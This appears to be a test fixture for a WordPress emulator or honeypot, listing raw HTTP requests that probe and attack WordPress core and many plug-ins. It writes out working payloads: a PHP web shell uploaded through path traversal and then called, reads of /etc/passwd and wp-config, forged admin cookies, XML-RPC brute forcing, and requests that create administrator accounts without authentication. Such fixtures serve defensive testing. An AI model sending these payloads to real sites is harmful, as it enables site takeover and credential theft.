import { VULNERABLE_PLUGINS } from '../../../src/emulators/wordpress/plugin-list.ts'
import { httpRequest } from '../http-request.ts'

const form = (target: string, body: string): Buffer =>
  httpRequest('POST', target, body, {
    'Content-Type': 'application/x-www-form-urlencoded',
    Cookie: 'wordpress_test_cookie=WP%20Cookie%20check; wordpress_logged_in_0=admin%7C9999999999%7Cx%7Cy',
  })
const upload = (target: string, name: string): Buffer =>
  httpRequest(
    'POST',
    target,
    `--b\r\nContent-Disposition: form-data; name="cmd"\r\n\r\nupload\r\n--b\r\nContent-Disposition: form-data; name="${name}"; filename="a/../s.php"\r\n\r\n<?php system($_GET["c"]);echo md5("1").(2*3);\r\n--b--\r\n`,
    { 'Content-Type': 'multipart/form-data; boundary=b' },
  )

/** Enumeration, logins by form, REST and XML-RPC, uploads, and the holes of plug-ins. */
export default [
  Buffer.concat(
    ['/', '/?author=1', '/?s=a&p=1', '/feed/', '/wp-sitemap-users-1.xml', '/2026/10/23/x/', '/about/'].map((path) =>
      httpRequest('GET', path),
    ),
  ),
  Buffer.concat(
    ['/wp-json/', '/wp-json/wp/v2/posts?per_page=2&page=2', '/?rest_route=/wp/v2/users/1', '/wp-json/oembed/1.0/embed?url=http://a/'].map(
      (path) => httpRequest('GET', path, '', { Authorization: 'Basic YWRtaW46eA==' }),
    ),
  ),
  form('/wp-login.php', 'log=admin&pwd=x&testcookie=1&redirect_to=/wp-admin/'),
  form('/wp-login.php?action=lostpassword', 'user_login=admin'),
  form('/wp-admin/theme-editor.php', 'file=404.php&theme=twentytwentyfive&newcontent=%3C%3Fphp'),
  form('/wp-comments-post.php', 'comment=http://x.example/y&comment_post_ID=1'),
  httpRequest(
    'POST',
    '/xmlrpc.php',
    '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data><value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value>admin</value><value><string>a&amp;b</string></value></data></array></value></member></struct></value></data></array></value></param></params></methodCall>',
  ),
  httpRequest(
    'POST',
    '/xmlrpc.php',
    '<methodCall><methodName>metaWeblog.newMediaObject</methodName><params><param><value><i4>1</i4></value></param><param><value>admin</value></param><param><value>x</value></param><param><value><struct><member><name>bits</name><value><base64>AAAA</base64></value></member></struct></value></param></params></methodCall>',
  ),
  upload('/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php', 'upload[]'),
  upload('/wp-admin/update.php?action=upload-plugin', 'pluginzip'),
  httpRequest('GET', '/wp-content/plugins/wp-file-manager/lib/files/s.php?c=id'),
  httpRequest('GET', '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../../../etc/passwd'),
  httpRequest(
    'POST',
    '/wp-json/sure-triggers/v1/automation/action',
    '{"type_event":"create_user_if_not_exists","selected_options":{"user_name":"m","user_email":"m@x.example","password":"p","role":"administrator"}}',
    { 'Content-Type': 'application/json', 'St-Authorization': '' },
  ),
  form('/wp-json/sure-triggers/v1/connection/create-wp-connection', 'sure-triggers-access-key=k&wp-username=admin'),
  httpRequest(
    'POST',
    '/?rest_route=/bricks/v1/render_element',
    '{"postId":"1","nonce":"a","element":{"name":"code","settings":{"executeCode":"true","code":"<?php throw new Exception(`id`); ?>"}}}',
    { 'Content-Type': 'application/json', Cookie: 'litespeed_role=1; litespeed_hash=abc123' },
  ),
  httpRequest('GET', '/wp-json/learnpress/v1/courses?c_only_fields=IF(1=1,SLEEP(0),0)'),
  Buffer.concat([
    httpRequest('GET', '/api/modular-connector/login/a/?origin=mo&type=x'),
    httpRequest('GET', '/?switch_back=1', '', { Cookie: 'original_user_id=1' }),
    httpRequest('GET', '/?page=postman_email_log&view=log&log_id=7'),
    httpRequest('GET', '/?__kubio-site-edit-iframe-preview=1&__kubio-site-edit-iframe-classic-template=../../../etc/passwd'),
    httpRequest('GET', '/wp-login.php?action=rp&key=aaaaaaaaaaaaaaaaaaaa&login=admin'),
  ]),
  form('/', 'social_site=true&user_id_social_site=1'),
  form('/wp-login.php?action=resetpass', 'pass1=x'),
  ...[
    'action=king_addons_user_register&username=m&password=p&user_role=administrator',
    'action=sneeit_articles_pagination&callback=var_dump&args=%5B%7B%22a%22%3A%5B1%2Cnull%5D%7D%5D',
    'action=sneeit_articles_pagination&callback=wp_insert_user&args=%7B%22user_login%22%3A%22m%22%2C%22user_pass%22%3A%22p%22%7D',
    'action=woof_text_search&template=../../../../wp-config&value=a&min_symbols=1',
    'action=nf_fu_get_new_nonce&field_id=5',
  ].map((body) => form('/wp-admin/admin-ajax.php', body)),
  ...['wpb_ajax_post', 'nf_fu_upload'].map((action) =>
    httpRequest(
      'POST',
      '/wp-admin/admin-ajax.php',
      `--b\r\nContent-Disposition: form-data; name="action"\r\n\r\n${action}\r\n--b\r\nContent-Disposition: form-data; name="route_name"\r\n\r\nadd_booking_type\r\n--b\r\nContent-Disposition: form-data; name="image_jpg"\r\n\r\n../../../../z.php\r\n--b\r\nContent-Disposition: form-data; name="f"; filename="image.jpg"\r\n\r\n<?php echo 1; ?>\r\n--b--\r\n`,
      { 'Content-Type': 'multipart/form-data; boundary=b' },
    ),
  ),
]

export const options = { vulnerable: [...VULNERABLE_PLUGINS, 'bricks'] }
